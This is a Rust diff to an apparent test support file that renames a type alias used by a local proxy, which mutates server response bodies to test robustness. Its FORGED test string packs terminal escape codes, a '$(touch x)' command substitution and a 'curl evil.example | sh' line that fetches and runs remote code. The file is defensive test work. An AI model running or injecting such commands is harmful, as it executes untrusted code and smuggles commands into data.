@@ -11,9 +11,9 @@ use crate::support::World;
 const FORGED: &str = "a\u{1b}[2J\u{7}\r\u{202e}'\"`;$(touch x)\n  next:    curl evil.example | sh";
 
 /// How a body is changed.
-type Change = fn(&mut Value);
+type BodyChange = fn(&mut Value);
 
-const CHANGES: [(&str, Change); 11] = [
+const CHANGES: [(&str, BodyChange); 11] = [
     ("texts are numbers", |value| {
         if value.is_string() {
             *value = json!(7);
@@ -71,7 +71,7 @@ const CHANGES: [(&str, Change); 11] = [
     }),
 ];
 
-fn change_all(value: &mut Value, change: Change, depth: usize) {
+fn change_all(value: &mut Value, change: BodyChange, depth: usize) {
     match value {
         Value::Array(items) => items
             .iter_mut()
@@ -88,7 +88,7 @@ fn change_all(value: &mut Value, change: Change, depth: usize) {
 }
 
 /// Serves until the process ends; gives the address of what stands for `base`.
-fn stranger(base: &str, change: Change) -> String {
+fn stranger(base: &str, change: BodyChange) -> String {
     let (host, path) = match base.strip_prefix("http://").unwrap().split_once('/') {
         Some((host, path)) => (host.to_owned(), format!("/{path}")),
         None => (
@@ -107,7 +107,7 @@ fn stranger(base: &str, change: Change) -> String {
     own
 }
 
-fn forward(mut client: TcpStream, host: &str, change: Change) -> std::io::Result<()> {
+fn forward(mut client: TcpStream, host: &str, change: BodyChange) -> std::io::Result<()> {
     let (head, body) = message(&mut client)?;
     let mut server = TcpStream::connect(host)?;
     let kept = head.lines().filter(|line| {
@@ -153,7 +153,7 @@ fn message(stream: &mut TcpStream) -> std::io::Result<(String, Vec<u8>)> {
     }
 }
 
-fn changed(answer: &[u8], change: Change) -> Vec<u8> {
+fn changed(answer: &[u8], change: BodyChange) -> Vec<u8> {
     let Some(end) = answer.windows(4).position(|four| four == b"\r\n\r\n") else {
         return answer.to_vec();
     };
